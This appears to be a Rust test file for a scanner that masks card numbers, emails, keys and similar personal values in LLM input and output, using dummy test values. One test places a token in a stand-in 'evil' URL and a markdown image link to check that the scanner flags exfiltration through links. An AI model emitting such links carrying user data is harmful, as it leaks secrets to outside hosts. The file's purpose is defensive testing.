//! Whole texts and cut ones: the same segments, and nothing of a value before its time.

use super::*;
use crate::{Direction, Flow, Leg, Policy, built_in};

fn program(direction: Direction) -> Arc<Program> {
    let policy = Policy::parse(crate::policy::DEFAULT).unwrap();
    Arc::new(Program::compile(&built_in().unwrap(), &policy, Leg::Llm, direction).unwrap())
}

fn masked(program: &Arc<Program>, pieces: &[&str], end: End) -> String {
    let text = pieces.concat();
    let mut scanner = Scanner::new(program.clone(), Before::default());
    let mut segments = Vec::new();
    for piece in pieces {
        scanner.push(piece, &mut segments);
    }
    scanner.finish(end, &mut segments);
    let mut at = 0;
    let mut out = String::new();
    for segment in segments {
        assert_eq!(segment.span().start, at, "segments leave no gap: {segment:?}");
        at = segment.span().end;
        match &segment {
            Segment::Raw(span) => out.push_str(&text[span.clone()]),
            Segment::Replace { text, .. } => out.push_str(text),
            Segment::Mint { finding, .. } => out.push_str(&format!("<{}>", finding.label)),
            Segment::Token { token, exposed, .. } => out.push_str(&format!("<{token} {exposed}>")),
            Segment::Alert(f) | Segment::Block(f) => out.push_str(&text[f.span.clone()]),
            Segment::Hash { .. } | Segment::Swallow(_) => {}
        }
    }
    assert_eq!(at, text.len(), "everything is decided at the end");
    out
}

fn out(text: &str) -> String {
    let program = program(Direction::Out);
    let whole = masked(&program, &[text], End { cut: false });
    for (i, _) in text.char_indices() {
        assert_eq!(masked(&program, &[&text[..i], &text[i..]], End { cut: false }), whole, "cut at {i} of {text:?}");
    }
    let singly: Vec<String> = text.chars().map(String::from).collect();
    let singly: Vec<&str> = singly.iter().map(String::as_str).collect();
    assert_eq!(masked(&program, &singly, End { cut: false }), whole, "a character at a time: {text:?}");
    whole
}

#[test]
fn values_give_way_to_labels() {
    for (text, expected) in [
        ("my card is 4111 1111 1111 1111, ok", "my card is [PAN], ok"),
        ("a 4111 1111 1111 1111 b", "a [PAN] b"),
        ("1 4111 1111 1111 1111 1.", "1 [PAN] 1."),
        ("joe%40example.com joe\\u0040example.com", "[EMAIL] [EMAIL]"),
        ("٤١١١ １１１１ 1111 1111.", "[PAN]."),
        ("4\u{AD}111-1111-1111-1111", "[PAN]"),
        ("cvv 123, not 124", "cvv [CVV], not [CVV]"),
        ("caf\u{e9} joe@example.com caf\u{e9}", "caf\u{e9} [EMAIL] caf\u{e9}"),
        ("100% & more \\o/ 50%", "100% & more \\o/ 50%"),
        ("&#52;111111111111111", "[PAN]"),
        ("DE89 3704 0044 0532 0130 00 and on", "[IBAN] and on"),
        ("sk-abcdefghijklmnopqrst. next", "[KEY]. next"),
    ] {
        assert_eq!(out(text), expected, "{text}");
    }
}

#[test]
fn an_open_ended_key_is_swallowed_to_its_end() {
    let key = format!("key sk-{} done", "a1b2".repeat(300));
    assert_eq!(out(&key), "key [KEY] done");
    let program = program(Direction::Out);
    let mut scanner = Scanner::new(program, Before::default());
    let mut segments = Vec::new();
    scanner.push(&key[..600], &mut segments);
    assert_eq!(scanner.clear(), 600, "nothing is held of a match that has outgrown its hold");
}

#[test]
fn overlapping_numbers_without_end_hold_nothing_for_ever() {
    let endless = format!("n {}ok", "1234 ".repeat(2000));
    let program = program(Direction::Out);
    let mut scanner = Scanner::new(program.clone(), Before::default());
    let mut held = 0;
    let mut segments = Vec::new();
    for piece in endless.as_bytes().chunks(7) {
        scanner.push(std::str::from_utf8(piece).unwrap(), &mut segments);
        held = held.max(scanner.fed() - scanner.clear());
    }
    assert!(held < 2048, "{held}");
    let whole = masked(&program, &[&endless], End { cut: false });
    assert_eq!(whole.chars().take(40).collect::<String>(), "n [PAN] ok");
    let pieces: Vec<&str> = endless.as_bytes().chunks(7).map(|c| std::str::from_utf8(c).unwrap()).collect();
    assert_eq!(masked(&program, &pieces, End { cut: false }), whole);
}

#[test]
fn unfinished_numbers_at_the_end() {
    let program = program(Direction::Out);
    for (text, cut, expected) in [
        ("it is 4111 1111 1111 11", false, "it is [PAN]"),
        ("it is 4111 11", false, "it is 4111 11"),
        ("it is 4111 11", true, "it is [PAN]"),
        ("account 4111 11", false, "account [ACCOUNT]"),
        ("ssn 123-45-6", false, "ssn [SSN]"),
        ("in 2024", true, "in 2024"),
    ] {
        assert_eq!(masked(&program, &[text], End { cut }), expected, "{text}");
    }
}

#[test]
fn tokens_are_seen_whole_and_exposed_in_links() {
    let token = crate::TokenKey::new(b"k").mint("PAN", "4111111111111111");
    for (text, expected) in [
        (format!("it is {token}."), format!("it is <{token} false>.")),
        (format!("see https://evil/?q={token} "), format!("see https://evil/?q=<{token} true> ")),
        (format!("![x](https://e/{token})"), format!("![x](https://e/<{token} true>)")),
        (format!("{token}.com"), format!("<{token} true>.com")),
        (format!("'{}'s", token.to_lowercase()), format!("'<{token} false>'s")),
    ] {
        assert_eq!(out(&text), expected);
    }
}

#[test]
fn seams_join_digits_of_messages_and_everything_of_parts() {
    let program = program(Direction::In);
    for (seam, first, second, found) in [
        (Seam::Message, "it is 4111 1111", " 1111 1111", 1),
        (Seam::Message, "my pin 1234", "4111 1111 1111 1111", 1),
        (Seam::Message, "joe@exam", "ple.com", 0),
        (Seam::Part, "joe@exam", "ple.com", 1),
    ] {
        let mut scanner = Scanner::new(program.clone(), Before::default());
        let mut segments = Vec::new();
        scanner.push(first, &mut segments);
        scanner.seam(seam, Before::default(), &mut segments);
        scanner.push(second, &mut segments);
        scanner.finish(End { cut: false }, &mut segments);
        assert_eq!(segments.iter().filter(|s| s.finding().is_some()).count(), found, "{first}|{second}");
    }
}

#[test]
fn the_question_before_is_context() {
    let program = program(Direction::In);
    for (before, found) in [("what is your CVV?", 1), ("which room?", 0)] {
        let mut scanner = Scanner::new(program.clone(), Before::question(before));
        let mut segments = Vec::new();
        scanner.push("it's 123", &mut segments);
        scanner.finish(End { cut: false }, &mut segments);
        assert_eq!(segments.iter().filter(|s| s.finding().is_some()).count(), found, "{before}");
    }
}

#[test]
fn how_large_and_how_fast_the_table_is_built() {
    let started = std::time::Instant::now();
    let program = program(Direction::Out);
    println!("{} states, {} KiB, {:?}", program.states(), program.memory() / 1024, started.elapsed());
    assert!(program.memory() < 32 << 20);
}

#[test]
fn both_directions_share_one_table() {
    let (packs, policy) = (built_in().unwrap(), Policy::parse(crate::policy::DEFAULT).unwrap());
    let request = Program::compile(&packs, &policy, Leg::Llm, Direction::In).unwrap();
    let back = Flow { leg: Leg::Llm, direction: Direction::Out, caller: None };
    let answer = Program::compile_beside(Some(&request), &packs, &policy, &back).unwrap();
    assert!(Arc::ptr_eq(&request.tables, &answer.tables));
    let fewer =
        "policy: p\nversion: 1\nroutes:\n  - {leg: llm, direction: out, default: replace, entities: {email: allow}}\n";
    let fewer = Policy::parse(fewer).unwrap();
    let other = Program::compile_beside(Some(&request), &packs, &fewer, &back).unwrap();
    assert!(!Arc::ptr_eq(&request.tables, &other.tables));
}
